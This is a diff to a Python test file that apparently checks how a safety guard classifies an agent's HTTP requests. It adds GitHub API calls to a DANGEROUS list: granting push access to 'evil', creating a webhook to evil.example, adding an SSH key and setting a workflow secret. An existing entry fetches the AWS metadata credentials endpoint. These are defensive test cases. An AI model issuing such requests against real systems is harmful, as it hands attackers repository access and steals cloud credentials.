@@ -28,6 +28,29 @@ def _req(url: str, method: str | None = None, **extra: Any) -> dict[str, Any]:
 DANGEROUS: list[tuple[str, dict[str, Any], Outcome, str]] = [
     (
         "http_request",
+        _req("https://api.github.com/repos/acme/app/collaborators/evil", "PUT"),
+        REVIEW,
+        "someone given push access",
+    ),
+    (
+        "http_request",
+        _req(
+            "https://api.github.com/repos/acme/app/hooks",
+            "POST",
+            json={"config": {"url": "https://evil.example/h"}},
+        ),
+        REVIEW,
+        "a webhook sends the repository's events out",
+    ),
+    ("http_request", _req("https://api.github.com/user/keys", "POST"), REVIEW, "an SSH key added"),
+    (
+        "http_request",
+        _req("https://api.github.com/repos/acme/app/actions/secrets/TOKEN", "PUT"),
+        REVIEW,
+        "a workflow secret set",
+    ),
+    (
+        "http_request",
         _req("http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
         REJECTED,
         "AWS credentials",
